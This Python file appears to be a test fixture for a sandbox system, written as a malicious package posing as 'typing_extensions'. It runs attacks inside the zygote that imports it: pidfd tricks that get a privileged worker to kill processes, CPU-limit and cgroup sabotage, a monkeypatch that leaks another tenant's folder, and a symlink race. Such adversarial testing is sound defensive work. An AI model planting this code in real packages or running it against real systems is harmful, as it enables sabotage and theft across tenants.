"""What a hostile wheel installs as `typing_extensions`: an attack in the zygote that imports it."""

import json
import os
import resource
import signal
import socket
import struct
import sys
import time

facts = json.loads("FACTS")
LINE = 3
MESSAGE = struct.Struct("=IiQQQQ")
HELLO, SPAWNED, ENDED = 2, 5, 7
SO_PASSPIDFD, SO_PEERPIDFD = 76, 77
line = socket.socket(fileno=os.dup(LINE))


def send(kind, number=0, descriptors=()):
    """Send the worker a message, as the zygote does."""
    fields = MESSAGE.pack(kind, 0, number, 0, 0, 0)
    socket.send_fds(line, [fields], list(descriptors))


def receive():
    """Receive a request for a child."""
    data, descriptors, _, _ = socket.recv_fds(line, MESSAGE.size, 8)
    if not data:
        os._exit(0)
    return MESSAGE.unpack(data)[2], descriptors


def report_ready(child_line, folder="."):
    """Report what a child reports that is ready."""
    opened = os.open(folder, os.O_PATH | os.O_DIRECTORY)
    with socket.socket(fileno=os.dup(child_line)) as ready:
        socket.send_fds(ready, [b"R"], [opened])


def pidfd_of_server():
    """Return a pidfd of the process at the other end of the line."""
    try:
        got = line.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD, 4)
        return struct.unpack("i", got)[0]
    except OSError:
        return os.pidfd_open(facts["server"])


def serve_with(pidfd):
    """Answer every request with the pidfd of a process that is not a child."""
    send(HELLO)
    while True:
        number, descriptors = receive()
        send(SPAWNED, number, [pidfd])
        report_ready(descriptors[2])


def kill_server():
    """Have the worker kill its own process."""
    serve_with(pidfd_of_server())


def kill_server_by_message():
    """Have the worker kill its own process, found by the credentials of its messages."""
    line.setsockopt(socket.SOL_SOCKET, SO_PASSPIDFD, 1)
    send(HELLO)
    _, extra, _, _ = line.recvmsg(MESSAGE.size, 1000)
    found = [struct.unpack("i", data)[0] for _, kind, data in extra if kind == 4]
    send(SPAWNED, 1, found)
    serve_with(found[0])


def kill_any():
    """Have the worker, which may be root, kill a process of somebody else."""
    serve_with(os.pidfd_open(facts["victim"]))


def kill_group():
    """Kill the group of processes that the zygote was started in."""
    os.kill(0, signal.SIGKILL)


def limit_server():
    """Let the kernel kill the worker for its CPU time."""
    resource.prlimit(facts["server"], resource.RLIMIT_CPU, (0, 0))


def move_server():
    """Move the worker into the control group that a job is to join."""
    send(HELLO)
    _, descriptors = receive()
    for group in descriptors[3:]:
        os.write(group, b"%d" % facts["server"])
    os._exit(0)


def take_folder():
    """Have the worker collect what is in the folder of another tenant."""
    from ade.sandbox.child.apply_layers import LayerSetup

    line.close()  # a zygote that has more open than it had is not forked from

    def ready(setup):
        report_ready(LINE, facts["folder"])

    LayerSetup.report_ready = ready  # type: ignore[method-assign]


def plant_link():
    """Have the worker, which may be root, give away a folder that is a link to another's."""
    line.close()
    scratch = facts_of_plan()["scratch"]
    if not scratch:
        return
    if os.fork():
        return
    parent = os.open(scratch, os.O_RDONLY)
    until = time.monotonic() + 5
    while time.monotonic() < until:
        for name in os.listdir(parent):
            try:
                os.rename(name, f"moved-{name}", src_dir_fd=parent, dst_dir_fd=parent)
                os.symlink(facts["folder"], name, dir_fd=parent)
            except OSError:
                pass
    os._exit(0)


def facts_of_plan():
    """Return the plan that the zygote was started with."""
    return json.loads(sys.argv[2])


def attack():
    """Do what the test asks for, and then be the zygote if that fails."""
    try:
        globals()[facts["attack"]]()
    except OSError as error:
        sys.stderr.write(f"{facts['attack']}: {error}\n")


attack()
